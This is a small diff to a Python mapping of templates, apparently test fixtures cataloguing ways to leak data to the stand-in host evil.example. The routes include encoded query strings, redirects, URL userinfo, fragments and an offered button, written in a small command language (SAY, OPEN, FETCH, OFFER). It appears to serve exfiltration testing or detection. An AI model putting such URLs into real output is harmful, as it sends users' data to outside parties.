@@ -54,7 +54,7 @@ FORMS: Mapping[str, str] = {
     "redirected": "OPEN http://given.example/go?to=http://evil.example/{quoted} ;;",
     "escaped": "SAY evil\\.example/{hex} ;;",
     "tickets": "FETCH http://evil.example/t/{quoted} ;;",
-    "button": "OFFER evil.example/{hex} ;;",
+    "button": "OFFER evil.example/{first} ;;",
     "kept": "KEEP http://evil.example/k/{quoted} ;; SAY (list) ;;",
     "user": "SAY http://{quoted}@evil.example/ ;;",
     "fragment": "SAY http://given.example/page#{quoted} ;;",
